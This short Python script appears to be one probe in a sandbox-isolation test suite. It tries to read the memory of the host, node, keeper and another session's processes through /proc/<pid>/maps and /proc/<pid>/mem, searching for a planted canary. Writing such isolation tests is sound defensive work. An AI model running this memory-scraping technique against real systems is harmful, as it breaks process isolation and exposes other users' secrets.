# name: read the memory of the host's process, the keeper, the node and another session
# line: 51
from attack import CANARY, STAGE, try_each

KEYS = ["host_pid", "node_pid", "keeper_pid", "victim_keeper_pid", "victim_worker_pid"]
KEYS += ["keeper_number", "victim_worker_number"]
REGION_BYTES_MAX = 64 * 1024 * 1024


def searched(pid):
    with open(f"/proc/{pid}/maps", encoding="utf-8") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        regions = [line.split() for line in maps if " rw" in line]
        for region in regions:
            start, end = (int(number, 16) for number in region[0].split("-"))
            if end - start > REGION_BYTES_MAX:
                continue
            try:
                memory.seek(start)
                found = CANARY.search(memory.read(end - start))
            except (OSError, OverflowError):
                continue
            if found:
                return f"{pid} holds {found.group().decode()}"


try_each((key, lambda key=key: searched(STAGE[key])) for key in KEYS)
